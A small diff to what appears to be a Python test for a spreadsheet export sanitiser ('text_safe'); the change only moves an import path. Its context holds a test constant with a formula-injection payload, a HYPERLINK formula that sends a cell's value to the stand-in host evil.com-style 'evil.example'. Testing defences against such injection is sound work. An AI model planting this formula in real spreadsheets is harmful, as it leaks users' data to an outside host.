@@ -7,7 +7,7 @@ import pytest
 from openpyxl import load_workbook
 
 from core.exports import text_safe
-from tests.arrears.defaulter_data import owe
+from tests.defaulters.defaulter_data import owe
 from tests.factories import make_consumer
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
